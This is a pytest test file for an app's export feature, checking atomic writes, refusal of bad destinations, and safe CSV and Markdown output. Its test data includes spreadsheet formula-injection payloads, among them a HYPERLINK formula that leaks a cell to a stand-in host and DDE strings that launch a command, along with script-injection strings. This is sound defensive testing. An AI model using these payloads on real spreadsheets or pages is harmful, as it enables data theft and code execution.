"""Exports that never destroy, never execute, and move on their own.

- Writing: `export -o` and the app's export dialog replace a file only once the new
  one is whole. A full disk is made real with RLIMIT_FSIZE in a child process (every
  write past the limit fails with EFBIG, as a full disk fails with ENOSPC); permissions
  are checked as `nobody`. Devices, pipes, directories and missing folders are refused
  before anything is written.
- CSV: no cell starts a spreadsheet formula.
- Markdown: rendered by GitHub's cmark-gfm (autolinks on) and by markdown-it with
  linkify, no data text becomes a link, an image or HTML, and it still reads as the data.
- JSON: an export carries the documents its quotes cite, so it imports on its own into
  a fresh database.
"""

from __future__ import annotations

import asyncio
import copy
import csv
import hashlib
import html
import importlib
import io
import json
import os
import resource
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hostile_text import add_hostile_records
from markdown_it import MarkdownIt
from test_os_faults import NOBODY, as_nobody, file_size_limit
from textual.widgets import Input, Static
from tui_helpers import wait_until

from seed import position_records
from store import Filter, Store
from store.export import CSV_COLUMNS, WORD_JOINER, render_export, to_csv
from store.models import Position
from store.plain_text import one_line
from tui.app import CounterpointApp
from tui.cli import main
from tui.screens.export_screen import ExportScreen

COUNTERPOINT = Path(sys.executable).parent / "counterpoint"
OLD_BRIEF = "# The brief a colleague already relies on\n" * 50


# Writing a file: all or nothing --------------------------------------------------------


def bulk_store(path: Path, count: int = 300) -> Path:
    """A store whose exports are hundreds of kilobytes: larger than any limit we set."""
    good = next(r for r in position_records() if r["id"] == "pk-rehman-agenda")
    records = [
        {
            **copy.deepcopy(good),
            "id": f"pk-bulk-{n}",
            "links": [],
            "summary": f"Bulk position {n} " + "padding " * 100,
        }
        for n in range(count)
    ]
    with Store.open(path) as opened:
        opened.import_data({"positions": records}, origin="bulk")
    return path


def old_brief(path: Path, mode: int = 0o640) -> bytes:
    path.write_text(OLD_BRIEF, encoding="utf-8")
    path.chmod(mode)
    return path.read_bytes()


def listing(directory: Path) -> list[str]:
    return sorted(os.listdir(directory))


@pytest.mark.parametrize("fmt", ["json", "md", "csv"])
def test_a_full_disk_mid_export_leaves_the_old_brief_whole(
    seeded_path: Path, tmp_path: Path, fmt: str
):
    bulk_store(seeded_path)
    target = tmp_path / f"brief.{fmt}"
    before = old_brief(target)
    files = listing(tmp_path)
    # Room for SQLite's shared memory (32 KiB) to open the database, not for the export.
    limit = 96 * 1024
    argv = [
        str(COUNTERPOINT),
        "export",
        "--db",
        str(seeded_path),
        "--format",
        fmt,
        "-o",
        str(target),
    ]
    result = subprocess.run(argv, capture_output=True, text=True, preexec_fn=file_size_limit(limit))
    assert result.returncode == 1, result
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr == (
        f"counterpoint: cannot write {target}: file too large; {target} is unchanged\n"
    )
    assert target.read_bytes() == before
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert listing(tmp_path) == files  # no temporary file left behind
    # With room again the same command replaces it, and the file keeps its mode.
    again = subprocess.run(argv, capture_output=True, text=True)
    assert again.returncode == 0, again.stderr
    assert target.stat().st_size > limit
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert listing(tmp_path) == files


def fifo(directory: Path) -> Path:
    path = directory / "pipe.md"
    os.mkfifo(path)
    return path


BAD_DESTINATIONS: dict[str, Callable[[Path], Path]] = {
    "/dev/full": lambda _: Path("/dev/full"),
    "/dev/null": lambda _: Path("/dev/null"),
    "a FIFO": fifo,
    "a missing folder": lambda d: d / "no-such-folder" / "brief.md",
    "a file as a folder": lambda d: d / "brief.md" / "inside.md",
    "a directory": lambda d: d,
    "a symlink loop": lambda d: (d / "loop.md").symlink_to(d / "loop.md") or d / "loop.md",
}


@pytest.mark.parametrize("case", BAD_DESTINATIONS)
def test_a_destination_that_cannot_be_a_file_is_refused_and_nothing_is_written(
    seeded_path: Path, tmp_path: Path, case: str
):
    work = tmp_path / "work"
    work.mkdir()
    old_brief(work / "brief.md")
    target = BAD_DESTINATIONS[case](work)
    files, devices = listing(work), listing(Path("/dev"))
    kind = os.lstat(target).st_mode if os.path.lexists(target) else None
    # A process of its own, with a time limit: writing into a FIFO that no one reads
    # would wait for ever.
    result = subprocess.run(
        [str(COUNTERPOINT), "export", "--db", str(seeded_path), "-o", str(target)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    code, err = result.returncode, result.stderr
    assert code == 2, err
    assert err.count("\n") == 1 and err.startswith("counterpoint: "), err
    assert "Traceback" not in err
    assert listing(work) == files and listing(Path("/dev")) == devices
    if kind is not None:
        assert os.lstat(target).st_mode == kind  # still a device, pipe, folder or link
    assert (work / "brief.md").read_text(encoding="utf-8") == OLD_BRIEF


def test_refusals_say_what_the_destination_is(seeded_path: Path, tmp_path: Path, capsys):
    said = {}
    for case in ("/dev/full", "a FIFO", "a missing folder"):
        main(["export", "--db", str(seeded_path), "-o", str(BAD_DESTINATIONS[case](tmp_path))])
        said[case] = capsys.readouterr().err
    assert said["/dev/full"] == (
        "counterpoint: cannot write /dev/full: it is a character "
        "device, not a regular file; nothing was written\n"
    )
    assert "it is a named pipe (FIFO), not a regular file" in said["a FIFO"]
    assert f"the folder {tmp_path / 'no-such-folder'} does not exist" in said["a missing folder"]


def test_a_symlink_is_followed_and_the_file_it_names_replaced(seeded_path: Path, tmp_path: Path):
    real = tmp_path / "briefs" / "real.md"
    real.parent.mkdir()
    old_brief(real, 0o604)
    link = tmp_path / "brief.md"
    link.symlink_to(real)
    assert main(["export", "--db", str(seeded_path), "--format", "md", "-o", str(link)]) == 0
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text(encoding="utf-8").startswith("# Counterpoint brief")
    assert stat.S_IMODE(real.stat().st_mode) == 0o604
    assert listing(real.parent) == ["real.md"]


@pytest.fixture
def open_dir(seeded_path: Path) -> Iterator[Path]:
    """A folder anyone may enter holding a seeded database anyone may read (pytest's
    tmp_path is private to root)."""
    directory = Path(tempfile.mkdtemp(prefix="counterpoint-export-"))
    directory.chmod(0o755)
    shutil.copy(seeded_path, directory / "team.db")
    (directory / "team.db").chmod(0o644)
    # Every module the child needs is loaded before it forks (nobody may not read them).
    assert (
        main(
            [
                "export",
                "--db",
                str(directory / "team.db"),
                "--format",
                "json",
                "-o",
                str(directory / "scratch.json"),
            ]
        )
        == 0
    )
    (directory / "scratch.json").unlink()
    # The dialog writes in a thread worker: the executor's module is loaded on first use.
    importlib.import_module("concurrent.futures.thread")
    yield directory
    directory.chmod(0o755)
    shutil.rmtree(directory)


def export_as_nobody(directory: Path, target: Path) -> tuple[int, str]:
    return as_nobody(
        ["export", "--db", str(directory / "team.db"), "--format", "json", "-o", str(target)]
    )


def test_a_folder_nobody_may_write_is_one_line_and_untouched(open_dir: Path):
    out = open_dir / "out"
    out.mkdir()
    before = old_brief(out / "brief.json", 0o666)  # the file nobody may write; the folder not
    out.chmod(0o555)
    files = listing(out)
    for target in (out / "brief.json", out / "new.json"):
        code, err = export_as_nobody(open_dir, target)
        assert code == 1, err
        assert err.count("\n") == 1 and "Traceback" not in err, err
        assert err.startswith(f"counterpoint: cannot write {target}: permission denied"), err
        assert listing(out) == files
    assert (out / "brief.json").read_bytes() == before


def test_a_file_nobody_may_write_is_not_replaced_even_in_a_folder_they_may_write(open_dir: Path):
    out = open_dir / "out"
    out.mkdir()
    out.chmod(0o777)  # a rename would succeed here: the file's own permission is kept
    before = old_brief(out / "brief.json", 0o644)
    code, err = export_as_nobody(open_dir, out / "brief.json")
    assert code == 1, err
    assert err == (
        f"counterpoint: cannot write {out / 'brief.json'}: permission denied; "
        f"{out / 'brief.json'} is unchanged\n"
    )
    assert (out / "brief.json").read_bytes() == before
    assert listing(out) == ["brief.json"]


# The same through the app's export dialog ----------------------------------------------


def in_child(work: Callable[[], str]) -> str:
    """Run `work` in a forked child (so a resource limit or a changed user stays there);
    what it returns, or the exception it raised."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns to pytest
        code = 0
        signal.alarm(60)  # a write that blocks (into a FIFO) must not hang the tests
        with os.fdopen(write_end, "w", encoding="utf-8") as out:
            try:
                out.write(work())
            except BaseException as exc:
                out.write(f"child failed: {exc!r}")
                code = 70
        os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end, encoding="utf-8") as said:
        text = said.read()
    os.waitpid(pid, 0)
    return text


def message(app: CounterpointApp) -> str:
    return str(app.screen.query_one("#export-message", Static).render())


def writing(app: CounterpointApp) -> bool:
    """Whether the dialog is still writing in its worker (it closes, or says what went
    wrong, when done)."""
    return isinstance(app.screen, ExportScreen) and message(app).startswith("Writing")


async def export_in_dialog(
    db: Path, target: Path, before_enter: Callable[[], None], after_enter: Callable[[], None]
) -> str:
    """Press e, type `target`, press Enter twice (the second confirms a replacement);
    what the dialog said each time, and which screen is on top at the end."""
    with Store.open(db) as opened:
        app = CounterpointApp(opened, author="alice")
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            await pilot.press("e")
            assert isinstance(app.screen, ExportScreen)
            app.screen.query_one("#export-path", Input).value = str(target)
            await pilot.press("enter")
            first = message(app)
            before_enter()
            try:
                await pilot.press("enter")
                await wait_until(pilot, lambda: not writing(app))  # the worker is done
            finally:
                after_enter()
            second = message(app) if isinstance(app.screen, ExportScreen) else ""
            return f"{first}\n{second}\n{type(app.screen).__name__}"


def dialog(
    db: Path,
    target: Path,
    before_enter: Callable[[], None] = lambda: None,
    after_enter: Callable[[], None] = lambda: None,
) -> list[str]:
    said = in_child(lambda: asyncio.run(export_in_dialog(db, target, before_enter, after_enter)))
    assert said and not said.startswith("child failed"), said
    return said.split("\n")


def test_the_dialog_on_a_full_disk_keeps_the_old_file_and_says_why(
    seeded_path: Path, tmp_path: Path
):
    bulk_store(seeded_path)
    target = tmp_path / "brief.md"
    before, files = old_brief(target), listing(tmp_path)

    def disk_full() -> None:  # from here on, in the child, no file may grow past 96 KiB
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (96 * 1024, resource.RLIM_INFINITY))

    first, second, screen = dialog(seeded_path, target, before_enter=disk_full)
    assert target.read_bytes() == before
    assert listing(tmp_path) == files
    assert first == "brief.md exists. Press Enter again to replace it."
    assert second == f"Cannot write {target}: file too large; {target} is unchanged"
    assert screen == "ExportScreen"  # the dialog stays open with the path typed


@pytest.mark.parametrize("case", ["/dev/full", "a FIFO", "a missing folder"])
def test_the_dialog_refuses_what_cannot_be_a_file_before_asking(
    seeded_path: Path, tmp_path: Path, case: str
):
    work = tmp_path / "work"
    work.mkdir()
    target = BAD_DESTINATIONS[case](work)
    files, devices = listing(work), listing(Path("/dev"))
    first, second, screen = dialog(seeded_path, target)
    assert first.startswith(f"Cannot write {target}: "), first
    assert first.endswith("nothing was written") and second == first
    assert "exists" not in first and screen == "ExportScreen"
    assert listing(work) == files and listing(Path("/dev")) == devices
    if case != "a missing folder":
        assert not target.is_file()  # still the device or the pipe


def test_the_dialog_in_a_folder_nobody_may_write_keeps_the_file(open_dir: Path):
    out = open_dir / "out"
    out.mkdir()
    before = old_brief(out / "brief.md", 0o666)
    out.chmod(0o555)

    as_root = os.geteuid() == 0  # as anyone else, the folder is already not theirs

    def become_nobody() -> None:  # only for the write: Textual reads this checkout
        if as_root:
            os.setgroups([])
            os.setegid(NOBODY)
            os.seteuid(NOBODY)

    def root_again() -> None:
        if as_root:
            os.seteuid(0)
            os.setegid(0)

    first, second, screen = dialog(
        open_dir / "team.db", out / "brief.md", become_nobody, root_again
    )
    assert (out / "brief.md").read_bytes() == before
    assert listing(out) == ["brief.md"]
    assert first == "brief.md exists. Press Enter again to replace it."
    assert second == (
        f"Cannot write {out / 'brief.md'}: permission denied (a new file "
        f"cannot be made in {out}); {out / 'brief.md'} is unchanged"
    )
    assert screen == "ExportScreen"


# CSV: no cell is a formula --------------------------------------------------------------

FORMULAS = {
    "summary": '=HYPERLINK("http://x.invalid/?leak="&A1,"Click for details")',
    "actors": ["+cmd|' /C calc'!A0", "India"],
    "places": ["@SUM(1+1)*cmd|' /C calc'!A0"],
    "date_text": "-2+3+cmd|' /C calc'!A0",
    "date_note": "\t=1+1",
}


def formula_position(store: Store) -> Position:
    record = next(r for r in position_records() if r["id"] == "pk-rehman-agenda")
    store.import_data(
        {"positions": [{**record, **FORMULAS, "id": "pk-formula", "date_note": "\r=1+1"}]},
        origin="formulas",
    )
    return store.get("pk-formula")


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(store: Store):
    text = to_csv([formula_position(store)])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["summary"] == "'" + FORMULAS["summary"]
    assert row["actors"] == "'+cmd|' /C calc'!A0 | Government of India"
    assert row["places"] == "'" + FORMULAS["places"][0]
    assert row["date_text"] == "'" + FORMULAS["date_text"]
    assert row["date_note"] == "'\r=1+1"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Every field is quoted, so a spreadsheet that splits on ";" or tabs cannot start a
    # new cell, and so a formula, in the middle of one.
    header, row_line = text.split("\n")[:2]
    assert header == ",".join(f'"{column}"' for column in CSV_COLUMNS)
    assert row_line.startswith('"pk-formula","pakistan","\'+cmd|')


def test_csv_of_ordinary_data_is_unchanged_and_no_column_needs_a_leading_minus(store: Store):
    positions, _ = store.positions()
    rows = list(csv.DictReader(io.StringIO(to_csv(positions))))
    assert not any(cell.startswith("'") for row in rows for cell in row.values())
    assert all(row["summary"] == p.summary for row, p in zip(rows, positions, strict=True))


def test_csv_export_through_the_cli_neutralises_imported_formulas(seeded_path: Path, capsys):
    with Store.open(seeded_path) as opened:
        formula_position(opened)
    assert main(["export", "--db", str(seeded_path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )
    assert any(cell == "'" + FORMULAS["summary"] for row in rows for cell in row)


# Markdown: what two real renderers make of the brief -------------------------------------

ATTACKS = [
    "https://x.invalid/a?b=c",
    "see http://x.invalid now",
    "HTTPS://X.INVALID",
    "www.x.invalid",
    "ftp://x.invalid",
    "a@b.invalid",
    "mailto:a@b.invalid",
    "xmpp:a@b.invalid/x",
    "first.last+tag@sub-domain.example.com",
    "a_@_b.invalid",
    "a\\@b.invalid",
    "x.@y.com",
    "visit example.com and pahalgam.gov.in",
    "//localhost/x",
    "<https://x.invalid>",
    "[a link](https://x.invalid)",
    "![img](https://x.invalid/p.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt; and &#64; and &amp;",
    "<!-- hidden -->",
    "# Heading",
    "Title\n===",
    "Title\n---",
    "> quoted",
    "1. listed",
    "| a | b |\n|---|---|",
    "[ref]: https://x.invalid",
    "~~struck~~",
    "**bold** _em_",
    "`code`",
    "trailing\\",
    "javascript:alert(1)",
    "[^1]",
    "- [ ] task",
]
"""Text a renderer would act on, each as it would be written in a record."""

ALLOWED_TAGS = {"p", "h1", "h2", "h3", "strong", "em", "ul", "li", "code", "br"}
"""What the brief's own structure makes: anything else came from the data."""

DOC_ID = "attack-doc"
DOC_TEXT = " ".join(ATTACKS)


def attack_records() -> dict:
    """Positions whose every text field, document title, quote, link and id-like text
    carries one of ATTACKS."""
    seed_record = next(r for r in position_records() if r["id"] == "pk-rehman-agenda")
    positions = []
    for n, text in enumerate(ATTACKS):
        start = DOC_TEXT.index(text)
        positions.append(
            {
                **copy.deepcopy(seed_record),
                "id": f"pk-attack-{n}",
                "summary": text,
                "actors": [text],
                "places": [text],
                "date_text": text,
                "date_note": text,
                "sources": [
                    {"document": DOC_ID, "quote": text, "start": start, "end": start + len(text)}
                ],
                "links": [{"relation": "responds_to", "target": "www.x.invalid"}],
            }
        )
    positions[0]["id"] = "www.x.invalid"  # a valid slug that looks like a domain
    positions[0]["links"] = []
    return {
        "documents": [
            {
                "id": DOC_ID,
                "title": " ".join(ATTACKS[:8]),
                "outlet": "x",
                "published": "2025-05-01",
                "text": DOC_TEXT,
            }
        ],
        "positions": positions,
    }


class VisibleText(HTMLParser):
    """The tags an HTML page holds and the text a reader sees."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.comments: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs) -> None:
        self.tags.add(tag)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def render_both(markdown: str) -> dict[str, str]:
    """cmark-gfm as GitHub runs it, but letting raw HTML through (so any that the data
    could make would show), and markdown-it with linkify (VS Code's preview)."""
    return {
        "cmark-gfm": cmarkgfm.github_flavored_markdown_to_html(
            markdown, options=Options.CMARK_OPT_UNSAFE
        ),
        "markdown-it": MarkdownIt("gfm-like", {"html": True, "linkify": True}).render(markdown),
    }


@pytest.fixture
def attack_store(store: Store, tmp_path: Path) -> Store:
    add_hostile_records(store, tmp_path)
    records = attack_records()
    store.import_data(records, origin="attacks")
    for record, text in zip(records["positions"], ATTACKS, strict=True):
        store.set_note(record["id"], "alice", text)
    return store


def test_no_data_text_renders_as_a_link_image_or_html(attack_store: Store):
    brief, count = render_export(attack_store, Filter(), "md")
    assert count == 41 + 5 + len(ATTACKS)
    for renderer, page in render_both(brief).items():
        seen = VisibleText()
        seen.feed(page)
        assert seen.tags <= ALLOWED_TAGS, (renderer, seen.tags - ALLOWED_TAGS)
        assert not seen.comments, renderer
        for marker in ("<a ", "<img", "<script", "<!--", "href="):
            assert marker not in page, (renderer, marker)
        visible = "".join(seen.text).replace(WORD_JOINER, "")
        for text in ATTACKS:
            assert one_line(text) in visible, (renderer, text)
        assert html.unescape("&lt;b&gt; and &#64; and &amp;") not in visible  # not decoded
        # The headings are the brief's own: one title, days, sides.
        assert page.count("<h1>") == 1, renderer


def test_a_word_joiner_stands_only_where_an_address_could_start(attack_store: Store):
    brief, _ = render_export(attack_store, Filter(), "md")
    joined = brief.count(WORD_JOINER)
    assert joined and joined == brief.count(f"{WORD_JOINER}@")
    assert "\\[@click=app\\.quit\\]" in brief  # an "@" no address can hold is left alone


def test_the_autolinks_of_the_old_escaping_were_real():
    """The same renderers on the text without escaping make links: the test above is
    not passing because the renderers make none."""
    for page in render_both("see https://x.invalid and www.x.invalid and a@b.invalid").values():
        assert "<a " in page


# JSON: an export imports on its own into a fresh database --------------------------------


def content(path: Path, cited_only: bool = False) -> dict[str, str]:
    """SHA-256 of every row of the tables an import writes, table by table."""
    tables = [
        "positions",
        "position_actors",
        "position_topics",
        "position_places",
        "sources",
        "links",
        "documents",
    ]
    digests = {}
    with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as conn:
        for table in tables:
            where = (
                " WHERE id IN (SELECT document_id FROM sources)"
                if (table == "documents" and cited_only)
                else ""
            )
            names = [c[0] for c in conn.execute(f"SELECT * FROM {table} LIMIT 0").description]
            # When and by whom a document was added is each database's own record.
            kept = ", ".join(n for n in names if n not in ("added_by", "added_at"))
            order = ", ".join(str(n) for n in range(1, len(kept.split(", ")) + 1))
            rows = conn.execute(f"SELECT {kept} FROM {table}{where} ORDER BY {order}").fetchall()
            digests[table] = hashlib.sha256(json.dumps(rows).encode()).hexdigest()
    return digests


def test_a_slice_imports_into_a_fresh_database_with_every_quote_and_link(
    seeded_path: Path, tmp_path: Path, store: Store, capsys
):
    exported = tmp_path / "pakistan.json"
    assert (
        main(["export", "--db", str(seeded_path), "--side", "pakistan", "-o", str(exported)]) == 0
    )
    data = json.loads(exported.read_text(encoding="utf-8"))
    assert list(data) == ["sides", "topics", "actors", "documents", "positions"]
    cited = {s["document"] for p in data["positions"] for s in p["sources"]}
    assert {d["id"] for d in data["documents"]} == cited
    fresh = tmp_path / "colleague.db"
    capsys.readouterr()
    assert main(["import", "--db", str(fresh), str(exported)]) == 0, capsys.readouterr().err
    ids = [p["id"] for p in data["positions"]]
    assert len(ids) == 16
    with Store.open(fresh) as theirs:
        assert theirs.position_count() == len(ids)
        for position_id in ids:
            assert theirs.get(position_id).model_dump() == store.get(position_id).model_dump()
        outside = {link.target for p in theirs.positions()[0] for link in p.links} - set(ids)
        assert outside  # links to India's positions travel, waiting for their targets
        for document_id in cited:  # the same document; who added it here is theirs
            mine, copy = store.document(document_id), theirs.document(document_id)
            assert copy.model_dump() == mine.model_dump()
            assert copy.sha256 == mine.sha256 and copy.added_by and copy.added_at
    for position_id in ids:
        capsys.readouterr()
        assert main(["show", "--db", str(fresh), position_id]) == 0
        assert f"\nId:      {position_id}\n" in capsys.readouterr().out


def test_everything_exported_and_imported_afresh_is_the_same_content(
    seeded_path: Path, tmp_path: Path
):
    exported = tmp_path / "all.json"
    assert main(["export", "--db", str(seeded_path), "-o", str(exported)]) == 0
    fresh = tmp_path / "fresh.db"
    assert main(["import", "--db", str(fresh), str(exported)]) == 0
    assert content(fresh) == content(seeded_path, cited_only=True)
    # And once more, from the copy: an export of an import is the same file.
    again = tmp_path / "again.json"
    assert main(["export", "--db", str(fresh), "-o", str(again)]) == 0
    assert again.read_bytes() == exported.read_bytes()
